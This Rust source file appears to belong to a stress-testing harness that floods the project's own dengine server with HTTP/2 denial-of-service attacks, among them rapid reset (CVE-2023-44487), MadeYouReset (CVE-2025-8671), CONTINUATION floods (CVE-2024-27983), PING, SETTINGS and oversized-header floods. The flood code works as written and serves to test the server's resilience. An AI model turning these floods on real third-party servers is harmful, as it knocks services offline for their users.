//! HTTP/2 as no client speaks it.

use std::net::SocketAddr;

use anyhow::Result;
use bytes::BytesMut;
use dengine_protocol::v1::GetRequest;
use futures::future::BoxFuture;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::net::tcp::{OwnedReadHalf, OwnedWriteHalf};

use super::{Arena, Attacker, crowd, one_of_many};
use crate::frames::{self, END_HEADERS, END_STREAM, Kind};
use crate::link::{connect, framed};

const GET: &str = "/dengine.v1.Kv/Get";
/// Frames that are written at once.
pub(super) const AT_ONCE: usize = 256;

pub(super) const ATTACKERS: &[Attacker] = &[
    Attacker {
        name: "rapid-reset",
        does: "calls that are taken back in the same packet (CVE-2023-44487)",
        on: &["listen-client", "dengine.v1.Kv/Get"],
        run: rapid_reset,
    },
    Attacker {
        name: "made-you-reset",
        does: "calls followed by a frame that has the member reset them (CVE-2025-8671)",
        on: &["listen-client", "dengine.v1.Kv/Get"],
        run: made_you_reset,
    },
    Attacker {
        name: "pings",
        does: "PING without end, half of the answers never read",
        on: &["listen-client"],
        run: pings,
    },
    Attacker {
        name: "settings",
        does: "SETTINGS without end, half of the answers never read",
        on: &["listen-client"],
        run: settings,
    },
    Attacker {
        name: "empty-frames",
        does: "empty DATA and WINDOW_UPDATE of one byte without end, on a call that never ends",
        on: &["listen-client", "dengine.v1.Kv/Get"],
        run: empty_frames,
    },
    Attacker {
        name: "endless-headers",
        does: "HEADERS and CONTINUATION without end (CVE-2024-27983), in frames of 16 KiB and of \
            one header",
        on: &["listen-client"],
        run: endless_headers,
    },
    Attacker {
        name: "huge-headers",
        does: "calls with 15 KiB of headers, as many as are let in",
        on: &["listen-client", "dengine.v1.Kv/Get"],
        run: huge_headers,
    },
];

/// [`flood_at`] the port of our own clients.
async fn flood(arena: Arena, number: usize, more: impl FnMut(&mut BytesMut) -> u64) -> Result<()> {
    flood_at(arena.doors.client, arena, number, more).await
}

/// Writes what `more` makes for as long as the member takes it. Half of these clients read what
/// they are told.
pub(super) async fn flood_at(
    door: SocketAddr,
    arena: Arena,
    number: usize,
    mut more: impl FnMut(&mut BytesMut) -> u64,
) -> Result<()> {
    let stream = connect(door).await?;
    let (read, mut write) = TcpStream::into_split(stream);
    let _reading = number.is_multiple_of(2).then(|| Reading::begin(read));
    write.write_all(&frames::greeting()).await?;
    let mut bytes = BytesMut::new();
    loop {
        bytes.clear();
        let frames = more(&mut bytes);
        write_all(&mut write, &bytes).await?;
        arena.tally.did(frames);
    }
}

async fn write_all(write: &mut OwnedWriteHalf, bytes: &[u8]) -> Result<()> {
    let written = write.write_all(bytes).await;
    written.map_err(|error| anyhow::anyhow!("closed: {}", error.kind()))
}

/// A task that reads and forgets.
struct Reading(tokio::task::JoinHandle<()>);

impl Reading {
    fn begin(mut read: OwnedReadHalf) -> Self {
        Self(tokio::spawn(async move {
            let mut buffer = vec![0; 64 << 10];
            while matches!(read.read(&mut buffer).await, Ok(1..)) {}
        }))
    }
}

impl Drop for Reading {
    fn drop(&mut self) {
        self.0.abort();
    }
}

fn rapid_reset(arena: Arena) -> BoxFuture<'static, ()> {
    crowd(arena, 16, |arena, number| {
        let (headers, mut stream) = (frames::headers(GET), 1);
        let body = framed(&get(number));
        flood(arena, number, move |bytes| {
            for _ in 0..AT_ONCE {
                put_taken_back(bytes, stream, &headers, &body);
                stream += 2;
            }
            AT_ONCE as u64
        })
    })
}

/// Adds a call, and that it is cancelled.
pub(super) fn put_taken_back(bytes: &mut BytesMut, stream: u32, headers: &[u8], body: &[u8]) {
    const CANCEL: [u8; 4] = 8_u32.to_be_bytes();
    frames::put(bytes, Kind::Headers, END_HEADERS, stream, headers);
    frames::put(bytes, Kind::Data, END_STREAM, stream, body);
    frames::put(bytes, Kind::ResetStream, 0, stream, &CANCEL);
}

fn made_you_reset(arena: Arena) -> BoxFuture<'static, ()> {
    crowd(arena, 16, |arena, number| {
        let (headers, mut stream) = (frames::headers(GET), 1);
        flood(arena, number, move |bytes| {
            for _ in 0..AT_ONCE {
                frames::put(bytes, Kind::Headers, END_HEADERS, stream, &headers);
                // A window may not grow by nothing.
                frames::put(bytes, Kind::WindowUpdate, 0, stream, &[0; 4]);
                stream += 2;
            }
            AT_ONCE as u64
        })
    })
}

fn pings(arena: Arena) -> BoxFuture<'static, ()> {
    crowd(arena, 16, |arena, number| {
        flood(arena, number, |bytes| {
            for _ in 0..AT_ONCE {
                frames::put(bytes, Kind::Ping, 0, 0, b"8 bytes.");
            }
            AT_ONCE as u64
        })
    })
}

fn settings(arena: Arena) -> BoxFuture<'static, ()> {
    crowd(arena, 16, |arena, number| {
        flood(arena, number, |bytes| {
            for n in 0..AT_ONCE {
                // The window of all streams, up and down.
                let window = (65_535 + n as u32).to_be_bytes();
                let setting = [&[0, 4][..], &window].concat();
                frames::put(bytes, Kind::Settings, 0, 0, &setting);
            }
            AT_ONCE as u64
        })
    })
}

fn empty_frames(arena: Arena) -> BoxFuture<'static, ()> {
    crowd(arena, 16, |arena, number| {
        let mut begun = false;
        flood(arena, number, move |bytes| {
            if !std::mem::replace(&mut begun, true) {
                let headers = frames::headers(GET);
                frames::put(bytes, Kind::Headers, END_HEADERS, 1, &headers);
            }
            for _ in 0..AT_ONCE / 2 {
                frames::put(bytes, Kind::Data, 0, 1, &[]);
                frames::put(bytes, Kind::WindowUpdate, 0, 0, &[0, 0, 0, 1]);
            }
            AT_ONCE as u64
        })
    })
}

fn endless_headers(arena: Arena) -> BoxFuture<'static, ()> {
    crowd(arena, 16, |arena, number| {
        let mut block = frames::headers(GET);
        let small = number % 4 < 2;
        let size = if small { 1 } else { 16 << 8 };
        let mut more = Vec::new();
        while more.len() < size {
            frames::header(&mut more, b"x", b"");
        }
        let mut kind = Kind::Headers;
        flood(arena, number, move |bytes| {
            for _ in 0..AT_ONCE / 4 {
                frames::put(
                    bytes,
                    kind,
                    0,
                    1,
                    &std::mem::replace(&mut block, more.clone()),
                );
                kind = Kind::Continuation;
            }
            AT_ONCE as u64 / 4
        })
    })
}

fn huge_headers(arena: Arena) -> BoxFuture<'static, ()> {
    crowd(arena, 16, |arena, number| {
        let mut block = frames::headers(GET);
        for n in 0..15 {
            let name = format!("x-{n}");
            frames::header(&mut block, name.as_bytes(), &[b'v'; 1000]);
        }
        let mut stream = 1;
        flood(arena, number, move |bytes| {
            // Calls without an end: each holds its headers until the member gives it up.
            for _ in 0..16 {
                frames::put(bytes, Kind::Headers, END_HEADERS, stream, &block);
                stream += 2;
            }
            16
        })
    })
}

fn get(number: usize) -> GetRequest {
    GetRequest {
        key: one_of_many(number),
        ..GetRequest::default()
    }
}
